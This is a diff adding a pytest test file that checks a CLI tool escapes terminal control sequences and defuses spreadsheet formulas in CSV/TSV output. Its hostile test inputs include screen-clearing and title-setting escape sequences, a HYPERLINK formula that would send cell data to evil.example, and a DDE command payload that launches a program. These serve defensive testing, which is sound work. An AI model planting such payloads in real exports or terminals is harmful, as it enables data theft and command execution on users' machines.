@@ -1,0 +1,130 @@
+"""User text is data: it never steers a terminal and never runs in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import sys
+from pathlib import Path
+
+import pytest
+
+from cli_util import ok
+from proc_util import project_env, run_on_pty
+
+HOSTILE = "Eve\x1b[31mRED\x1b]0;PWNED\x07\x1b[2J"
+SHOWN = "Eve\\x1b[31mRED\\x1b]0;PWNED\\x07\\x1b[2J"
+# What the hostile text would do if obeyed (Rich's own styling of headers is allowed).
+OBEYED = [b"\x1b[31m", b"\x1b]0;", b"\x07", b"\x1b[2J", b"\xc2\x9b"]
+
+
+@pytest.fixture
+def hostile(practice, data_dir: Path):  # type: ignore[no-untyped-def]
+    """A client whose name holds terminal escapes: only a hand-edited file can do that."""
+    assert practice("client", "add", "eve", "--name", "Eve", "--notes", "line one").exit_code == 0
+    assert practice("package", "create", "five", "--name", "5 massages", "--service", "massage=5", "--price", "400").exit_code == 0
+    assert practice("sell", "eve", "five").exit_code == 0
+    journal = data_dir / "journal.jsonl"
+    lines = journal.read_bytes().splitlines(keepends=True)
+    edited = []
+    for line in lines:
+        if b'"type":"client-added"' in line and b'"id":"eve"' in line:
+            record = json.loads(line)
+            record["client"]["name"] = HOSTILE
+            record["client"]["notes"] = "note\x1b[2Jgone\x9b"
+            line = (json.dumps(record, sort_keys=True, separators=(",", ":"), ensure_ascii=False) + "\n").encode()
+        edited.append(line)
+    journal.write_bytes(b"".join(edited))
+    assert practice("check", "--rebuild").exit_code == 0
+    return practice
+
+
+@pytest.mark.parametrize("args", [("client", "list"), ("client", "show", "eve"), ("history", "eve"), ("balance", "eve"),
+                                  ("balance",), ("client", "list", "--format", "csv"), ("client", "list", "--format", "tsv"),
+                                  ("history", "eve", "--format", "csv"), ("client", "show", "eve", "--format", "json")])
+def test_escapes_from_a_hand_edited_file_are_shown_never_obeyed_on_a_terminal(hostile, data_dir: Path, args: tuple[str, ...]) -> None:
+    env = project_env({"SESSIONPACK_NOW": "2026-11-20T09:00"})
+    code, out = run_on_pty([sys.executable, "-m", "sessionpack", "--data-dir", str(data_dir), *args], env)
+    assert code == 0, out
+    for raw in OBEYED:
+        assert raw not in out, (args, raw, out)
+    if "json" in args:
+        assert b"Eve\\u001b[31mRED" in out
+    elif args[0] == "client":
+        assert b"Eve\\x1b[31mRED" in out, out  # shown (a narrow table may wrap the rest)
+
+
+def test_plain_output_and_messages_escape_too(hostile, data_dir: Path) -> None:
+    listed = ok(hostile("client", "list"))
+    assert SHOWN in listed and "\x1b" not in listed
+    shown = ok(hostile("client", "show", "eve"))
+    assert "note\\x1b[2Jgone\\x9b" in shown and "\x1b" not in shown and "\x9b" not in shown
+    data = json.loads(ok(hostile("client", "show", "eve", "--format", "json")))
+    assert data["name"] == HOSTILE  # JSON keeps the data exactly, escaped by JSON itself
+    raw = hostile("client", "show", "eve", "--format", "json").stdout
+    assert "\x9b" not in raw and "\\u009b" in raw
+
+
+@pytest.mark.parametrize("field, value", [("--name", "Eve\x1b[31m"), ("--name", "bell\x07"), ("--name", "c1\x9b2J"),
+                                          ("--name", "back\x08space"), ("--name", "del\x7f")])
+def test_control_characters_are_refused_where_text_is_typed(practice, data_dir: Path, field: str, value: str) -> None:
+    result = practice("client", "add", "zed", field, value)
+    assert (result.exit_code, result.stdout) == (2, "")
+    assert result.stderr == "error: client name must be one line of text (no line breaks, tabs or other control characters)\n"
+    assert not (data_dir / "views" / "clients" / "zed.json").exists()
+
+
+@pytest.mark.parametrize("args, message", [
+    (("--actor", "x\x1b[2J", "client", "add", "zed", "--name", "Zed"), "--actor must be a name of one line, at most 100 characters"),
+    (("sell", "ana", "five", "--invoice", "A\x1b1"), "--invoice must be one line of at most 64 characters"),
+    (("sell", "ana", "five", "--ref", "r\x07"), "--ref must be one line of at most 200 characters"),
+    (("book", "ana", "massage", "2026-12-01T10:00", "--provider", "Jo\x1b[2J"), "--provider must be one line of text (no line breaks, tabs or other control characters)"),
+    (("pay", "ana.p1", "1", "--method", "card\x9b"), "--method must be one line of text (no line breaks, tabs or other control characters)"),
+    (("adjust", "ana.p1", "--sessions", "+1", "--reason", "why\x1b]0;x\x07"), "--reason must be one line of 1 to 500 printable characters"),
+    (("client", "edit", "ana", "--email", "a\x1b@b.com"), "email 'a\\x1b@b.com' is not an address like ana@example.com"),
+])
+def test_every_one_line_field_refuses_control_characters(practice, data_dir: Path, args: tuple[str, ...], message: str) -> None:
+    from tree import tree_hash
+
+    assert practice("package", "create", "five", "--name", "5 massages", "--service", "massage=5", "--price", "400").exit_code == 0
+    assert practice("sell", "ana", "five", "--paid", "100").exit_code == 0
+    before = tree_hash(data_dir)
+    result = practice(*args)
+    assert (result.exit_code, result.stdout, result.stderr) == (2, "", f"error: {message}\n")
+    assert tree_hash(data_dir) == before
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "\tTAB", "\rCR"]
+
+
+def cells(text: str, delimiter: str = ",") -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text), delimiter=delimiter))
+
+
+@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
+def test_formulas_in_text_cells_are_defused_and_numbers_are_not(practice, data_dir: Path, fmt: str, delimiter: str) -> None:
+    for number, name in enumerate(FORMULAS[:4]):
+        assert practice("client", "add", f"f{number}", "--name", name).exit_code == 0
+    assert practice("package", "create", "credit", "--name", "Credit", "--pool", "money=300", "--price", "300").exit_code == 0
+    assert practice("sell", "f0", "credit").exit_code == 0
+    assert practice("--actor", "=cmd|' /C calc'!A0", "adjust", "f0.p1", "--money", "-5.50", "--reason", "+SUM(1)").exit_code == 0
+    rows = cells(ok(practice("client", "list", "--format", fmt)), delimiter)
+    names = {row[0]: row[1] for row in rows[1:]}
+    assert [names[f"f{n}"] for n in range(4)] == ["'" + name for name in FORMULAS[:4]]
+    history = cells(ok(practice("history", "f0.p1", "--format", fmt)), delimiter)
+    flat = [cell for row in history for cell in row]
+    assert "'=cmd|' /C calc'!A0" in flat and "'+SUM(1)" in flat
+    assert not any(cell.startswith(("=", "+", "@")) for cell in flat)
+    balance = cells(ok(practice("balance", "f0", "--format", fmt)), delimiter)
+    assert "294.50" in [cell for row in balance for cell in row]  # amounts are never altered
+
+
+def test_spreadsheet_rule_on_single_cells() -> None:
+    from sessionpack.cli.output import delimited_cell
+
+    assert [delimited_cell(v, False) for v in ("-5.00", "+3", "-", "2026-12-01", "ana.p1", "=1+1", "@x", "-x", "\tx")] == [
+        "-5.00", "+3", "'-", "2026-12-01", "ana.p1", "'=1+1", "'@x", "'-x", "'\tx"]
+    assert delimited_cell("\tx", True) == "' x"
+    assert delimited_cell("a\nb", False) == "a\nb" and delimited_cell("a\nb", True) == "a b"
+    assert delimited_cell("a\x1bb", False) == "a\\x1bb"
